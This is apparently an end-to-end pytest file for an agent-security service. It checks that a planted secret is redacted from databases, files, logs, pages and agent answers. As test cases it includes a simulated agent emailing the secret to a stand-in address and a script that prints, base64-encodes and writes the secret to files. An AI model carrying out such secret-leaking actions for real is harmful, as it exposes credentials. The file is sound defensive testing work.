"""A planted secret turns up nowhere: no table, entry, file, answer, nor the environment of a process."""

from __future__ import annotations

import base64
import subprocess
from collections.abc import Iterator

import httpx
import pytest

from agentsec_site import embedded
from agentsec_site.demo.company import SECRET
from agentsec_site.embedded import REPOSITORY
from agentsec_site.home import secret
from tests import planted
from tests.e2e.company import Company
from tests.live import clean_environment, manage

pytestmark = pytest.mark.e2e

VALUE = "Zq7/planted+Value\u00e9-048172635"
# Its own source holds the value in two halves, as no search for the whole would find it.
CODE = f"""
import base64, sys
value = {VALUE[:9]!r} + {VALUE[9:]!r}
print("plain", value)
print("coded", base64.b64encode(b"user:" + value.encode()).decode(), value.encode().hex())
sys.stderr.write(value)
open("plain.txt", "w").write(value)
open("wide.bin", "wb").write(value.encode("utf-16"))
raise SystemExit(value)
"""
PAGES = ("/", "/traces", "/health", "/policies/credentials", "/admin/policies/secret/", "/insights")


def plant(company: Company, name: str, value: str) -> None:
    """As an operator stores it: on standard input."""
    subprocess.run(
        [*manage("secret", "set", name), "--home", str(company.live.home)], input=value.encode(), check=True,
        cwd=REPOSITORY, env=clean_environment(), capture_output=True, timeout=120,
    )  # fmt: skip


def answers(company: Company, actions: list[str], session: str) -> Iterator[planted.Place]:
    """What the site answers to a person and to the agent."""
    agent = company.stage.agent("data-bot")
    for action in actions:
        yield "answer to the agent", agent.download(f"/actions/{action}")
        yield "answer to a reviewer", company.people["demo"].download(f"/actions/{action}")
        yield "evidence", company.people["demo"].download(f"/actions/{action}/evidence")
    for name in ("plain.txt", "wide.bin"):
        yield f"artifact {name}", agent.download(f"/actions/{actions[0]}/artifacts/{name}")
    with httpx.Client(base_url=company.live.url, follow_redirects=True) as browser:
        browser.get(company.live.link)
        more = [f"/actions/{action}{part}" for action in actions for part in ("", "/why")]
        for path in (*PAGES, *more, f"/traces/sessions/{session}"):
            yield f"page {path}", browser.get(path).content


def test_a_stored_secret_that_a_job_an_agent_and_a_user_bring_in_is_kept_nowhere(company: Company) -> None:
    plant(company, "planted", VALUE)
    agent, host = company.stage.agent("data-bot"), company.stage.host("data-bot")
    session = host.open_session(purpose="Reads what it should not have")
    told = host.say(session, "user_message", f"The token is {VALUE}, keep it.")
    assert told["text"] == "The token is [secret planted], keep it."
    coded = base64.b64encode(b"token=" + VALUE.encode()).decode()
    agent.say(session, "tool_result", f"Authorization: {coded}", tool="web.fetch")
    leaked = agent.propose(session, "email.send", {"to": ["a@b.example"], "subject": "x", "body": VALUE})
    assert leaked["state"] == "blocked"
    # What was read taints a session, and a script in it would be asked about by more people.
    clean = host.open_session(purpose="Prints what it should not have")
    printed = agent.propose(clean, "python.run", {"code": CODE})
    company.decide(company.waiting("python.run", ready=lambda item: item["id"] == printed["id"]))
    done = company.stage.settle(agent, printed)
    assert done["result"]["stdout"].startswith("plain [secret planted]\n")
    services = embedded.plan(company.live.home)
    password = secret(services.home, "postgres.password")
    found = planted.search(
        VALUE,
        dsn=services.postgres_url(user="postgres", password=password, database="agentsec"),
        home=company.live.home,
        redis_url=services.redis_url,
        payloads=planted.payloads_of(company.live),
        answers=answers(company, [printed["id"], leaked["id"]], session),
    )
    assert found == []


def test_the_password_of_an_issuer_is_kept_nowhere_either(company: Company) -> None:
    company.play("billing").result(60)
    code = (
        "from urllib.parse import urlsplit; from policies import secrets; "
        f"print(urlsplit(secrets.read({SECRET!r})).password)"
    )
    value = company.live.manage("shell", "--no-imports", "-c", code).stdout.split()[-1]
    services = embedded.plan(company.live.home)
    password = secret(services.home, "postgres.password")
    dsn = services.postgres_url(user="postgres", password=password, database="agentsec")
    searched = planted.search(
        value, dsn=dsn, home=company.live.home, redis_url=services.redis_url,
        payloads=planted.payloads_of(company.live),
    )  # fmt: skip
    assert len(value) > 12 and [place for place in searched if not place.startswith("file keys/")] == []
